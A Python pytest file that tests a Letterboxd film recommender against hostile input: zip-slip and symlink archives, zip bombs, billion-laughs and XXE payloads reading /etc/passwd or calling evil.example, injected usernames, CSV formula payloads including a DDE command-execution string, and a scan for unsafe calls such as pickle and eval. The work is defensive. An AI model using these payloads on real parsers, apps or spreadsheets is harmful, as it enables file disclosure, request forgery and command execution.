"""Hostile input, checked with the real thing: crafted archives, XML bombs, injection through every field.

What the process does is watched through Python's audit events (`sys.addaudithook`): every file opened, folder made,
file renamed or removed, host looked up and socket connected, by any code, from any thread. That is how these tests
show that an upload is never extracted, that an XML entity never reaches /etc/passwd, and that no field can make the
app contact a host other than letterboxd.com (looking up any other host is refused by the hook, so the tests make no
request to the internet even where there is one).
"""

from __future__ import annotations

import ast
import contextlib
import csv
import io
import os
import struct
import sys
import tempfile
import threading
import time
import tracemalloc
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from harness.fault_server import FaultServer, Reply
from harness.files import FIXTURES, REPO, export_files
from lbrec.app.environment import load_engine
from lbrec.app.page import RecommenderApp
from lbrec.errors import ExportError, InvalidUsernameError, LetterboxdError, MarkupError
from lbrec.letterboxd.client import Client
from lbrec.letterboxd.export import read_export
from lbrec.letterboxd.history import LetterboxdHistory
from lbrec.letterboxd.lists import list_csv
from lbrec.letterboxd.rss import parse_rss
from lbrec.letterboxd.sources import load_history
from lbrec.serving.results import Recommendation

GATES = Path(tempfile.gettempdir()) / f"lbrec-{os.getuid()}"  # lbrec.letterboxd.client's lock files
SECRET = "Secret Sentinel Film"


# ---------------------------------------------------------------------------------------------------- watching


@dataclass
class Watch:
    """What the process did while watched: (event, first argument) pairs."""

    events: list[tuple[str, str]] = field(default_factory=list)
    offline: bool = False  # refuse every host lookup: whatever the code asks for, no request leaves the machine

    def files_opened(self) -> list[str]:
        return [path for event, path in self.events if event in ("open", "open-w")]

    def changes(self) -> list[tuple[str, str]]:
        """Files written, made, renamed or removed; not the lock files through which the app's processes share
        their limit on requests to Letterboxd (lbrec.letterboxd.client)."""
        return [
            (e, p)
            for e, p in self.events
            if e
            in ("open-w", "os.mkdir", "os.rename", "os.remove", "os.rmdir", "os.symlink", "os.link", "shutil.copyfile")
            and not p.startswith(str(GATES))
        ]

    def hosts(self) -> list[str]:
        return [host for event, host in self.events if event == "socket.getaddrinfo"]

    def connections(self) -> list[str]:
        return [address for event, address in self.events if event == "socket.connect"]


_watching: list[Watch] = []
_lock = threading.Lock()


def _audit(event: str, args: tuple) -> None:
    if not _watching:
        return
    watch = _watching[-1]
    if event == "open":
        path, mode, flags = args
        writes = (isinstance(mode, str) and any(c in mode for c in "wax+")) or (
            isinstance(flags, int) and flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT)
        )
        with _lock:
            watch.events.append(("open-w" if writes else "open", str(path)))
    elif event in ("os.mkdir", "os.rename", "os.remove", "os.rmdir", "os.symlink", "os.link", "shutil.copyfile"):
        with _lock:
            watch.events.append((event, str(args[0])))
    elif event == "socket.getaddrinfo":
        host = args[0].decode() if isinstance(args[0], bytes) else str(args[0])
        with _lock:
            watch.events.append((event, host))
        if watch.offline:
            raise OSError(f"offline test: {host} is not looked up")
    elif event == "socket.connect":
        with _lock:
            watch.events.append((event, str(args[1])))


sys.addaudithook(_audit)


@contextlib.contextmanager
def watched(offline: bool = False) -> Iterator[Watch]:
    watch = Watch(offline=offline)
    _watching.append(watch)
    try:
        yield watch
    finally:
        _watching.remove(watch)


# ---------------------------------------------------------------------------------------------------- archives


def archive(entries: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as zipped:
        for name, data in entries.items():
            zipped.writestr(zipfile.ZipInfo(name, (2026, 11, 25, 8, 0, 0)), data, compress_type=method)
    return buffer.getvalue()


SECRET_CSV = f"Date,Name,Year,Letterboxd URI,Rating\r\n2020-01-01,{SECRET},2001,u,5\r\n".encode()


def titles(history: LetterboxdHistory) -> set[str]:
    return {f.title for f in [*history.films, *history.watchlist]}


def test_an_upload_is_read_in_memory_never_written_anywhere(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    data = archive(
        {
            **export_files(),
            "../../../tmp/evil.csv": SECRET_CSV,
            "/tmp/evil2.csv": SECRET_CSV,
            "letterboxd/../../watched.csv": SECRET_CSV,
        }
    )
    monkeypatch.chdir(tmp_path)
    with watched() as watch:
        history = load_history("export", data)
    assert SECRET not in titles(history) and "Heat" in titles(history)
    assert watch.changes() == [], f"reading an upload changed the file system: {watch.changes()}"
    assert not [p for p in watch.files_opened() if "evil" in p or p.endswith(".csv")]
    assert list(tmp_path.iterdir()) == [] and not Path("/tmp/evil.csv").exists()


@pytest.mark.parametrize(
    "name",
    [
        "../watched.csv",
        "../../ratings.csv",
        "/watched.csv",
        "/etc/diary.csv",
        "..\\watched.csv",
        "C:/watched.csv",
        "C:\\Users\\me\\ratings.csv",
        "export/../../watched.csv",
        "./../diary.csv",
    ],
)
def test_entries_outside_the_archive_are_ignored(name: str) -> None:
    files = export_files()
    history = read_export(archive({**files, name: SECRET_CSV}))
    assert SECRET not in titles(history) and "Heat" in titles(history)
    with pytest.raises(ExportError, match="no watched.csv, ratings.csv or diary.csv"):  # alone, it is not an export
        read_export(archive({name: SECRET_CSV}))


def test_a_symlink_entry_is_read_as_its_text_never_followed(tmp_path: Path) -> None:
    target = tmp_path / "secret.csv"
    target.write_bytes(SECRET_CSV)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zipped:
        for name, data in export_files().items():
            if name != "ratings.csv":
                zipped.writestr(name, data)
        link = zipfile.ZipInfo("ratings.csv")
        link.external_attr = 0o120777 << 16  # a Unix symlink whose text is the path it points to
        zipped.writestr(link, str(target))
    with watched() as watch, pytest.raises(ExportError, match="ratings.csv has no Name, Year column"):
        read_export(buffer.getvalue(), "upload.zip")
    assert str(target) not in watch.files_opened()


def test_a_zip_bomb_is_refused_before_it_is_inflated() -> None:
    bomb = archive({"watched.csv": b"Date,Name,Year\r\n" + bytes(45 * 2**20)})  # 45 MB of zeros in 45 kB
    assert len(bomb) < 100_000
    tracemalloc.start()
    started = time.perf_counter()
    with pytest.raises(ExportError, match=r"holiday\.zip: watched\.csv is compressed more than 100:1"):
        read_export(bomb, "holiday.zip")
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert time.perf_counter() - started < 1 and peak < 5 * 2**20  # refused from the headers, nothing inflated


def test_many_small_bombs_are_refused_by_their_total() -> None:
    entries = {f"lists/list{i}.csv": bytes(1_000_000) for i in range(60)}  # each under the ratio rule's 1 MiB
    bomb = archive({**export_files(), **entries})
    assert len(bomb) < 200_000
    with pytest.raises(ExportError, match="holds more than 50 MB once uncompressed"):
        read_export(bomb, "upload.zip")


def test_headers_that_understate_the_size_cannot_make_it_inflate_more(tmp_path: Path) -> None:
    """An entry claims 100 bytes but holds 30 MB: zipfile reads 100 bytes, the CRC then fails, nothing more."""
    honest = archive({"watched.csv": b"Date,Name,Year\r\n" + b"Heat,1995\r\n" * 3_000_000})
    declared = struct.pack("<I", 100)
    data = bytearray(honest)
    local = data.index(b"PK\x03\x04")
    data[local + 22 : local + 26] = declared  # uncompressed size in the local header
    central = data.index(b"PK\x01\x02")
    data[central + 24 : central + 28] = declared  # and in the central directory
    tracemalloc.start()
    with pytest.raises(ExportError, match="upload.zip: watched.csv cannot be read .*damaged"):
        read_export(bytes(data), "upload.zip")
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 10 * 2**20


def test_an_upload_over_50_mb_is_refused_unread() -> None:
    started = time.perf_counter()
    with pytest.raises(ExportError, match="big.zip is larger than 50 MB"):
        read_export(b"PK\x03\x04" + bytes(51 * 2**20), "big.zip")
    assert time.perf_counter() - started < 1


@pytest.mark.parametrize(
    "name, data",
    [
        ("holiday.gif", b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04" + bytes(40)),
        ("photo.png", b"\x89PNG\r\n\x1a\n" + bytes(60)),
        ("report.pdf", b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF"),
        ("export.tar.gz", zlib.compress(b"watched.csv" + bytes(500))),
        ("export.rar", b"Rar!\x1a\x07\x01\x00" + bytes(50)),
        ("export.7z", b"7z\xbc\xaf\x27\x1c" + bytes(50)),
        ("watched.csv", export_files()["watched.csv"]),
        ("empty.zip", b""),
        ("truncated.zip", archive(export_files())[:300]),
    ],
)
def test_files_that_are_not_zips_are_refused_by_name(name: str, data: bytes) -> None:
    with pytest.raises(ExportError, match=f"{name.replace('.', '[.]')} is not a ZIP file"):
        read_export(data, name)


@pytest.mark.parametrize(
    "encoding, text",
    [("latin-1", "Amélie"), ("cp1252", "“Heat”"), ("utf-16", "Amélie"), ("shift_jis", "千と千尋の神隠し")],
)
def test_csvs_that_are_not_utf8_are_refused_naming_the_archive_and_the_file(encoding: str, text: str) -> None:
    files = export_files()
    files["diary.csv"] = f"Date,Name,Year\r\n2020-01-01,{text},2001\r\n".encode(encoding)
    with pytest.raises(ExportError, match=r"letterboxd-me\.zip: diary\.csv is not UTF-8"):
        read_export(archive(files), "letterboxd-me.zip")


def test_an_encrypted_entry_is_refused_by_name() -> None:
    data = bytearray(archive(export_files(), zipfile.ZIP_STORED))
    at = 0
    while (at := data.find(b"PK\x03\x04", at)) >= 0:  # set the "encrypted" flag in every header
        data[at + 6] |= 1
        at += 4
    at = 0
    while (at := data.find(b"PK\x01\x02", at)) >= 0:
        data[at + 8] |= 1
        at += 4
    with pytest.raises(ExportError, match=r"me\.zip: \S+ cannot be read \(.*encrypted"):
        read_export(bytes(data), "me.zip")


# ---------------------------------------------------------------------------------------------------- XML and HTML


BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
    + "]><rss><channel><title>&lol9;</title></channel></rss>"
)
QUADRATIC = (
    f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "{"x" * 100_000}">]>'
    f"<rss><channel><title>{'&a;' * 50_000}</title></channel></rss>"
)
XXE = [
    '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss><channel><item>'
    '<letterboxd:filmTitle xmlns:letterboxd="https://letterboxd.com">&x;</letterboxd:filmTitle></item></channel></rss>',
    '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "http://evil.example/steal">]><rss>&x;</rss>',
    '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><rss/>',
    '<?xml version="1.0"?><!DOCTYPE rss SYSTEM "http://evil.example/rss.dtd"><rss><channel/></rss>',
    '<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//X//Y" "file:///etc/passwd"><rss><channel/></rss>',
]


@pytest.mark.parametrize(
    "xml",
    [BILLION_LAUGHS, QUADRATIC, *XXE[:3]],
    ids=["billion laughs", "quadratic blowup", "xxe file", "xxe http", "parameter entity"],
)
def test_rss_entity_bombs_and_external_entities_are_refused(xml: str) -> None:
    started = time.perf_counter()
    with watched(offline=True) as watch, pytest.raises(MarkupError, match="declares XML entities or a DTD"):
        parse_rss(xml.encode())
    assert time.perf_counter() - started < 1
    assert "/etc/passwd" not in watch.files_opened() and watch.hosts() == [] and watch.connections() == []


@pytest.mark.parametrize("xml", XXE[3:], ids=["external dtd", "public dtd"])
def test_an_external_dtd_is_never_fetched(xml: str) -> None:
    """expat records an external DTD's address without loading it: the feed parses, empty, and nothing is read."""
    with watched(offline=True) as watch:
        assert parse_rss(xml.encode()).films == []
    assert "/etc/passwd" not in watch.files_opened() and watch.hosts() == [] and watch.connections() == []


# ---------------------------------------------------------------------------------------------------- usernames


HOSTILE_NAMES = [
    "../admin",
    "dave/../admin",
    "da ve",
    "dave?x=1",
    "dave#x",
    "dave%2f..",
    "dave\r\nHost: evil.example",
    "dave\x00",
    "ｄａｖｅ",
    "dаve",
    "x" * 16,
    "a",
    "",
    " ",
    "https://evil.example/dave/",
    "http://letterboxd.com.evil.example/dave/",
    "https://letterboxd.com@evil.example/dave/",
    "https://evil.example\\@letterboxd.com/dave/",
    "//evil.example/dave",
    "file:///etc/passwd",
    "/etc/passwd",
    "javascript:alert(1)",
    "127.0.0.1",
    "[::1]",
    "https://[letterboxd.com/dave/",
    "letterboxd.com:8080/dave",
    "https://letterboxd.com:443@evil.example/dave",
    "ftp://letterboxd.com/dave/",
    "https://letterboxd.com/../evil.example/",
    "https://letterboxd.com/dave%2F..%2Fadmin/",
]


@pytest.mark.parametrize("text", HOSTILE_NAMES)
def test_usernames_are_refused_before_any_request(fault_server: FaultServer, tmp_path: Path, text: str) -> None:
    with Client(base_url=fault_server.url, cache=False, retries=0) as http:
        with watched() as watch, pytest.raises(InvalidUsernameError, match="is not a Letterboxd"):
            load_history("rss", text, client=http)
        assert watch.connections() == [] and watch.hosts() == []
    assert fault_server.hits == []


@pytest.mark.parametrize(
    "text",
    [
        "dave_99",
        "@dave_99",
        "https://letterboxd.com/dave_99/",
        "https://www.letterboxd.com/dave_99/films/",
        "letterboxd.com/dave_99/rss/",
    ],
)
def test_a_valid_username_is_the_only_thing_that_reaches_the_request(fault_server: FaultServer, text: str) -> None:
    fault_server.route(
        "/dave_99/rss/",
        Reply(200, (FIXTURES / "rss_2026.xml").read_bytes(), {"Content-Type": "application/rss+xml; charset=utf-8"}),
    )
    with Client(base_url=fault_server.url, cache=False, retries=0) as http:
        load_history("rss", text, client=http)
    assert [hit.path for hit in fault_server.hits] == ["/dave_99/rss/"]


@pytest.fixture
def app(tiny_model_dir: Path) -> RecommenderApp:
    """The app with its production client (letterboxd.com), on a model with random weights."""
    return RecommenderApp(*load_engine(tiny_model_dir), client=Client(cache=False, retries=0, timeout=2.0))


@pytest.mark.parametrize("text", [*HOSTILE_NAMES, "lbrectest", "https://letterboxd.com/lbrectest/"])
def test_the_app_contacts_only_letterboxd_whatever_is_typed(app: RecommenderApp, text: str) -> None:
    app.sources.tabs.selected_index = 0
    app.sources.username.value = text
    with watched(offline=True) as watch:
        app.go.click()
    assert set(watch.hosts()) <= {"letterboxd.com"} and watch.connections() == []
    assert app.message.value  # refused, or (for the real names) "could not reach Letterboxd"
    assert watch.changes() == [] and "/etc/passwd" not in watch.files_opened()


@pytest.mark.parametrize(
    "text",
    [
        "/etc/passwd",
        "file:///etc/passwd",
        "../../../etc/passwd",
        "https://evil.example/list.csv",
        "Heat (1995)\n/etc/hostname",
    ],
)
def test_typed_titles_and_uploads_read_no_file_and_contact_no_one(app: RecommenderApp, text: str) -> None:
    app.sources.tabs.selected_index = 2
    app.sources.typed.value = text
    with watched(offline=True) as watch:
        app.go.click()
        app.sources.tabs.selected_index = 1
        app.sources.upload.value = (
            {
                "name": text,
                "type": "application/zip",
                "size": 10,
                "content": memoryview(b"0" * 10),
                "last_modified": datetime.now(UTC),
            },
        )
        app.go.click()
    assert "is neither a Letterboxd export ZIP nor an IMDb ratings CSV" in app.message.value
    assert watch.hosts() == [] and watch.connections() == [] and watch.changes() == []
    assert not [p for p in watch.files_opened() if "passwd" in p or "hostname" in p]


def test_only_the_command_line_may_name_local_files(tmp_path: Path) -> None:
    (tmp_path / "feed.xml").write_bytes((FIXTURES / "rss_2026.xml").read_bytes())
    (tmp_path / "export.zip").write_bytes(archive(export_files()))
    with watched(offline=True) as watch:
        with pytest.raises(LetterboxdError, match="must be uploaded, not named by path"):
            load_history("export", str(tmp_path / "export.zip"))
        with pytest.raises(InvalidUsernameError):
            load_history("rss", str(tmp_path / "feed.xml"))
    assert not [p for p in watch.files_opened() if str(tmp_path) in p]
    assert load_history("rss", str(tmp_path / "feed.xml"), allow_files=True).films  # the CLI's way
    assert load_history("export", str(tmp_path / "export.zip"), allow_files=True).films


# ---------------------------------------------------------------------------------------------------- downloads


FORMULA = ("=", "+", "-", "@", "\t", "\r")


def recommendation(title: str) -> Recommendation:
    return Recommendation(1, title, 1999, ("Drama",), 603, 133093, 1.0, [])


@settings(max_examples=300, deadline=None, derandomize=True)
@given(
    st.lists(
        st.one_of(
            st.text(),
            st.sampled_from(FORMULA).flatmap(lambda c: st.text().map(lambda t: c + t)),
            st.sampled_from(
                [
                    '=HYPERLINK("http://evil.example","x")',
                    "=cmd|' /C calc'!A0",
                    "+1+1",
                    "-2+3",
                    "@SUM(1)",
                    "\t=1",
                    "\r=1",
                    " =1",
                    "'=1",
                    "=1,2\n3",
                ]
            ),
        ),
        max_size=8,
    )
)
def test_the_csv_download_never_starts_a_cell_like_a_formula(titles_: list[str]) -> None:
    text = list_csv((r.title, r.year, r.tmdbId) for r in map(recommendation, titles_))
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["Title", "Year", "tmdbID"] and len(rows) == len(titles_) + 1
    for row, title in zip(rows[1:], titles_, strict=True):
        assert not row[0].startswith(FORMULA), row[0]
        assert row[0] == ("'" + title if title.startswith(FORMULA) else title)  # nothing else changed
        assert row[1:] == ["1999", "603"]


# ---------------------------------------------------------------------------------------------------- the code


UNSAFE_MODULES = {"pickle", "_pickle", "cPickle", "marshal", "shelve", "dill", "cloudpickle", "joblib", "copyreg"}
UNSAFE_CALLS = {
    "eval",
    "exec",
    "compile",
    "__import__",
    "torch.load",
    "pd.read_pickle",
    "pandas.read_pickle",
    "np.load",
    "numpy.load",
    "yaml.load",
    "yaml.unsafe_load",
    "os.system",
    "os.popen",
    "pickle.load",
    "pickle.loads",
    "marshal.loads",
    "torch.jit.load",
}


def dotted(node: ast.AST) -> str:
    if isinstance(node, ast.Name):
        return node.id
    if isinstance(node, ast.Attribute):
        return f"{dotted(node.value)}.{node.attr}"
    return ""


def unsafe_uses(source: str) -> list[str]:
    """Every way Python code can run what it reads: pickle and its kin, eval/exec, torch.load, np.load without
    allow_pickle=False, yaml.load, a shell."""
    found = []
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Import | ast.ImportFrom):
            names = [a.name for a in node.names] + ([node.module] if isinstance(node, ast.ImportFrom) else [])
            found += [f"line {node.lineno}: import {n}" for n in names if n and n.split(".")[0] in UNSAFE_MODULES]
        if isinstance(node, ast.Call):
            name = dotted(node.func)
            keywords = {k.arg: k.value for k in node.keywords}
            if name in UNSAFE_CALLS and not (name.endswith("np.load") or name == "numpy.load"):
                found.append(f"line {node.lineno}: {name}()")
            if name in ("np.load", "numpy.load") and not (
                isinstance(keywords.get("allow_pickle"), ast.Constant) and keywords["allow_pickle"].value is False
            ):
                found.append(f"line {node.lineno}: {name}() without allow_pickle=False")
            for key in ("allow_pickle", "weights_only", "shell"):
                value = keywords.get(key)
                if isinstance(value, ast.Constant) and value.value is (key != "weights_only"):
                    found.append(f"line {node.lineno}: {key}={value.value}")
    return found


def test_the_scan_finds_what_it_looks_for() -> None:
    bad = (
        "import pickle\nfrom marshal import loads\neval('1')\nexec('x')\ntorch.load('m.pt')\nnp.load('a.npy')\n"
        "np.load('a.npy', allow_pickle=True)\nyaml.load(s)\nsubprocess.run('ls', shell=True)\n"
        "torch.load('m', weights_only=False)\npd.read_pickle('x')\n"
    )
    assert {int(found.split(":")[0].split()[1]) for found in unsafe_uses(bad)} == set(range(1, 12))  # every line
    assert unsafe_uses("model.eval()\nnp.load(p, allow_pickle=False)\nsafetensors.torch.load_file(p)\n") == []


def test_lbrec_never_unpickles_evaluates_or_executes_what_it_reads() -> None:
    found = {
        path.name: uses
        for path in sorted((REPO / "lbrec").glob("*.py"))
        if (uses := unsafe_uses(path.read_text(encoding="utf-8")))
    }
    assert found == {}


def test_pyarrow_does_not_unpickle_parquet_metadata() -> None:
    """pyarrow before 14.0.1 unpickled extension types found in a Parquet file's metadata (CVE-2023-47248)."""
    import pyarrow

    assert tuple(int(p) for p in pyarrow.__version__.split(".")[:3]) >= (14, 0, 1)


def test_model_files_are_verified_before_use(tiny_model_dir: Path, tmp_path: Path) -> None:
    """A model.onnx swapped for another valid model (not only a damaged one) is refused by its sha256."""
    import shutil

    from lbrec.errors import ArtifactError
    from lbrec.serving.engine import Recommender

    folder = tmp_path / "model"
    shutil.copytree(tiny_model_dir, folder)
    onnx = folder / "model.onnx"
    onnx.write_bytes(onnx.read_bytes().replace(b"item_seq", b"item_sex", 1))  # still loads in onnxruntime
    with pytest.raises(ArtifactError, match="model.onnx does not match the sha256"):
        Recommender(folder)
